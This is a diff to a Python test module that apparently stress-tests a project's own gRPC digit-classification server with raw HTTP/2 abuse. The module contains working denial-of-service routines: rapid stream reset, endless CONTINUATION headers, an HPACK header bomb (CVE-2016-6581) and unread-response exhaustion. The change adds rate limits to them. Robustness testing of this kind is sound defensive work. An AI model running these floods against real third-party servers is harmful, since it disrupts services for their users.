@@ -1,6 +1,7 @@
 """Abuse of a port by raw connections; each attack counts its cases until its time is up.
 
-The names are those under which such attacks are known; most have a CVE of some server's.
+An attack sends 50 bursts a second at most. One without such a limit is a flood of work, and takes
+its share of the processor from anybody, whatever it sends.
 """
 
 import gzip
@@ -21,6 +22,7 @@ _CLASSIFY: Final = b"/gurmukhi.v1.DigitService/Classify"
 _CHECK: Final = b"/grpc.health.v1.Health/Check"
 _OPENING: Final = frames.PREFACE + frames.settings()
 _TIMEOUT_SECONDS: Final = 5.0
+_PAUSE_SECONDS: Final = 0.02  # between two bursts
 
 
 def _connect(address: tuple[str, int]) -> socket.socket:
@@ -42,6 +44,7 @@ def _repeat(seconds: float, once: Callable[[random.Random], int]) -> int:
     while time.monotonic() < until:
         with suppress(OSError):
             cases += once(rng)
+        time.sleep(_PAUSE_SECONDS)
     return cases
 
 
@@ -96,13 +99,12 @@ def rapid_reset(address: tuple[str, int], seconds: float) -> int:
     def once(rng: random.Random) -> int:
         with _connect(address) as connection:
             connection.sendall(_OPENING)
-            for start in range(1, 4000, 400):
-                burst = b"".join(
-                    frames.headers(stream, frames.call_fields(_CLASSIFY)) + frames.reset(stream)
-                    for stream in range(start, start + 400, 2)
-                )
-                connection.sendall(burst)
-        return 2000
+            burst = b"".join(
+                frames.headers(stream, frames.call_fields(_CLASSIFY)) + frames.reset(stream)
+                for stream in range(1, 200, 2)
+            )
+            connection.sendall(burst)
+        return 100
 
     return _repeat(seconds, once)
 
@@ -115,9 +117,9 @@ def endless_headers(address: tuple[str, int], seconds: float) -> int:
         with _connect(address) as connection:
             opening = frames.headers(1, frames.call_fields(_CLASSIFY), flags=0)
             connection.sendall(_OPENING + opening)
-            for _ in range(200):
+            for _ in range(50):
                 connection.sendall(frames.frame(frames.CONTINUATION, 1, block * 8))
-        return 200
+        return 50
 
     return _repeat(seconds, once)
 
@@ -125,13 +127,13 @@ def endless_headers(address: tuple[str, int], seconds: float) -> int:
 def header_bomb(address: tuple[str, int], seconds: float) -> int:
     """A large header that is indexed once and named thousands of times (CVE-2016-6581)."""
     large = b"\x40" + frames.literal(b"bomb", b"z" * 4000)[1:]  # with incremental indexing
-    named = b"\xbe" * 8000  # the first entry of the dynamic table
+    named = b"\xbe" * 2000  # the first entry of the dynamic table: 8 MB of header fields
 
     def once(rng: random.Random) -> int:
         fields = b"".join(frames.literal(*one) for one in frames.call_fields(_CLASSIFY))
         block = frames.frame(frames.HEADERS, 1, fields + large + named, frames.END_HEADERS)
         _send(address, _OPENING + block)
-        return 8000
+        return 1
 
     return _repeat(seconds, once)
 
@@ -245,7 +247,7 @@ def idle_connections(address: tuple[str, int], seconds: float) -> int:
 
 def unread_answers(address: tuple[str, int], seconds: float) -> int:
     """Callers who ask and never read: their window is 0, or their socket is full."""
-    reflection = b"/inference.GRPCInferenceService/ModelStatistics"
+    listing = b"/gurmukhi.v1.DigitService/ListModels"
 
     def once(rng: random.Random) -> int:
         with ExitStack() as held:
@@ -253,7 +255,7 @@ def unread_answers(address: tuple[str, int], seconds: float) -> int:
                 connection = held.enter_context(_connect(address))
                 connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                 opening = frames.PREFACE + frames.settings([(4, rng.choice([0, 1 << 30]))])
-                calls = b"".join(frames.call(1 + 2 * i, reflection, b"") for i in range(50))
+                calls = b"".join(frames.call(1 + 2 * i, listing, b"") for i in range(50))
                 connection.sendall(opening + calls)
             time.sleep(min(0.5, seconds))
         return 1000
